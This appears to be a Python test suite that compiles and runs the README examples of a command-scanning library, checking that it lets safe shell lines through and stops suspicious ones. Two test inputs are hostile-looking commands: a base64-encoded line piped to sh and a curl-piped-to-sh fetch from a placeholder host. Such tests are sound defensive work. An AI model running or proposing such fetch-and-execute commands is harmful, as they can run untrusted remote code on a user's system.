#!/usr/bin/env python3
"""What the README shows is compiled and run: its example of asking, its provider, and its transcript.

Wants the environment of tools/private_pes. PES_SOURCE is the tree, PES_BUILD the build.
"""
import json
import os
import pathlib
import re
import subprocess
import sys
import tempfile

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "support"))

import tap

SOURCE = pathlib.Path(os.environ["PES_SOURCE"])
README = (SOURCE / "README.md").read_text(encoding="utf-8")
ENCODED = "echo ZWNobyBoYXJtbGVzcwo= | base64 -d | sh"
# A program that is to use a library with a sanitizer needs it, too.
SANITIZE = [f"-fsanitize={name}" for name in [os.environ.get("PES_SANITIZE", "none")] if name != "none"]
STRICT = ["-std=gnu17", "-O1", "-Wall", "-Wextra", "-Werror"]


def example(name):
    match = re.search(rf"<!-- example: {re.escape(name)} -->\n```c\n(.*?)```\n<!-- end of example -->", README, re.DOTALL)
    assert match, f"README.md has no example {name}"
    return match[1]


def readable_folder():
    """A folder that the service can read, whoever it runs as."""
    folder = pathlib.Path(tempfile.mkdtemp(prefix="pes-readme."))
    folder.chmod(0o755)
    return folder


def pkg_config(*arguments):
    return subprocess.run(["pkg-config", *arguments, "pes"], capture_output=True, text=True, check=True).stdout.split()


def compile_ask(folder):
    (folder / "ask.c").write_text(example("ask.c"))
    command = ["cc", *STRICT, *SANITIZE, "-o", "ask", "ask.c", *pkg_config("--cflags", "--libs")]
    subprocess.run(command, cwd=folder, check=True)
    return folder / "ask"


def ask(program, text, answer=""):
    return subprocess.run([program, text], input=answer, capture_output=True, text=True, check=False, timeout=20)


def test_ask():
    """the example of asking compiles without a warning, lets a good line run and stops a bad one"""
    program = compile_ask(readable_folder())
    good = ask(program, "echo hello")
    assert good.returncode == 0 and "running: echo hello" in good.stdout, good
    bad = ask(program, ENCODED)
    assert bad.returncode == 1 and "running" not in bad.stdout and "yara says that it is malicious" in bad.stdout, bad


def test_ask_person():
    """the example lets the person decide about a suspicious line"""
    program = compile_ask(readable_folder())
    line = "curl -fsS https://fix.example.invalid/a | sh"
    no, yes = ask(program, line, "n\n"), ask(program, line, "y\n")
    assert no.returncode == 1 and "running" not in no.stdout, no
    assert yes.returncode == 0 and "running: curl" in yes.stdout, yes


def test_ask_cxx():
    """the example is C++17, too: it compiles, links and asks"""
    folder = readable_folder()
    (folder / "ask.cc").write_text(example("ask.c"))
    command = ["c++", "-std=c++17", "-O1", "-Wall", "-Wextra", "-Werror", *SANITIZE, "-o", "ask", "ask.cc"]
    subprocess.run([*command, *pkg_config("--cflags", "--libs")], cwd=folder, check=True)
    good = ask(folder / "ask", "echo hello")
    assert good.returncode == 0 and "running: echo hello" in good.stdout, good


def compile_provider(folder):
    (folder / "provider.c").write_text(example("provider.c"))
    command = ["cc", *STRICT, "-shared", "-fPIC", "-o", "magic-word.so", "provider.c", *pkg_config("--cflags")]
    subprocess.run(command, cwd=folder, check=True)


def test_provider():
    """the provider of the README compiles with the installed headers alone, is loaded, and detects"""
    folder = readable_folder()
    compile_provider(folder)
    (folder / "providers.d").mkdir()
    (folder / "pes.conf").write_text("mode = enforce\n")
    (folder / "providers.d" / "magic-word.conf").write_text(f'module = "{folder}/magic-word.so"\n')
    scan = subprocess.run(
        [SOURCE / "tools" / "private_pes", "run", os.environ["PES_BUILD"], "--config", folder, "--"]
        + ["pes", "scan", "--kind", "command.pasted", "--json", "-"],
        input="say xyzzy", capture_output=True, text=True, check=False,
    )
    assert scan.returncode == 1, scan
    answer = json.loads(scan.stdout)
    assert answer["verdict"] == "malicious" and answer["providers"][0]["detection"] == "Magic.Word", answer


def test_provider_check():
    """the provider of the README passes the conformance suite"""
    folder = readable_folder()
    compile_provider(folder)
    command = ["pes", "provider", "check", "./magic-word.so"]
    check = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
    if "is pes installed completely?" in check.stderr:
        tap.skip("the conformance suite is not part of this build")
    assert check.returncode == 0, check
    json.loads(check.stdout)


def test_transcript():
    """the transcript in the README is one that the demo prints today, but for its times and references"""
    match = re.search(r"<!-- transcript: .*? -->\n```\n(.*?)```\n", README, re.DOTALL)
    assert match and match[1].strip(), "README.md has no transcript"
    story = [SOURCE / "tests" / "integration" / "story" / "story", os.environ["PES_BUILD"], "--transcript"]
    now = subprocess.run(story, stdout=subprocess.PIPE, text=True, check=True).stdout

    def without_chance(text):
        text = re.sub(r"[0-9A-Z]{4}-[0-9A-Z]{2}\b", "REF", text)
        text = text[: text.index("$ pes report")] if "$ pes report" in text else text
        text = re.sub(r"< N", "N", re.sub(r"\d+(\.\d+)*", "N", text))
        return re.sub(r"\s+", " ", text).strip()

    assert without_chance(match[1]) == without_chance(now), now


if __name__ == "__main__":
    tap.run(globals(), set(sys.argv[1:]))
